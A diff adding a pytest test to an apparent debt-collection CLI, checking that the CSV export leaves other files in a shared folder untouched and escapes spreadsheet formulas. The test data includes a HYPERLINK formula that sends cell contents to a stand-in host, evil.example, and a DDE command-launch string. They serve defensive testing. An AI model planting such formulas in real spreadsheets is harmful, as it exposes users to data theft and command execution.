@@ -255,6 +255,43 @@ def test_export_writes_the_cases_as_json_and_csv(portfolio: Portfolio, policy_fi
     assert cli("agency", "sync").exit_code == 2, "no API to ask"
 
 
+@pytest.mark.sqlite_only
+def test_export_into_a_shared_folder_leaves_other_files_and_neutralises_formulas(
+        portfolio: Portfolio, policy_file: Path, workdir: Path) -> None:
+    """The export folder may hold other files: they are left alone, and named. cases.csv is
+    opened in a spreadsheet: a formula in a name or number is shown as text (OWASP)."""
+    configure(policy_file, None)
+    seed(portfolio)
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    portfolio.customers["C1"]["name"] = hyperlink
+    portfolio.invoices["C1-I1"]["number"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    portfolio.write()
+    hand_over(portfolio)
+    run(day(6))
+    out = workdir / "shared"
+    out.mkdir()
+    foreign = {"settings.json": '{"theme": "dark"}', "list.json": "[1, 2]",
+               "broken.json": "{not json", "ledger.csv": "=1+1\n", "notes.txt": "hello"}
+    for name, text in foreign.items():
+        (out / name).write_text(text, encoding="utf-8")
+
+    result = cli("agency", "export", "--out", str(out), "--json")
+    assert result.exit_code == 0, (result.stdout, result.stderr, result.exception)
+    assert json.loads(result.stdout)["exported"] == 1
+    for name in ("broken.json", "list.json", "settings.json"):
+        assert f"{out / name}: not an agency case written by dunning; left out of cases.csv" \
+            in result.stderr
+    assert {name: (out / name).read_text(encoding="utf-8") for name in foreign} == foreign
+    with (out / "cases.csv").open(encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [(r["invoice_id"], r["debtor"], r["number"], r["amount_open"]) for r in rows] == [
+        ("C1-I1", "'" + hyperlink, "'@SUM(1+1)*cmd|' /C calc'!A0", "1500.00"),
+        ("C1-I2", "'" + hyperlink, "F-C1-I2", "700.00")]
+    assert rows[0]["phone"] == "'+33 1 00 00 00 00"
+
+    assert cli("agency", "export", "--out", str(out / "notes.txt")).exit_code == 2
+
+
 # --- the client against the double: retries never open a second case -----------------------
 
 
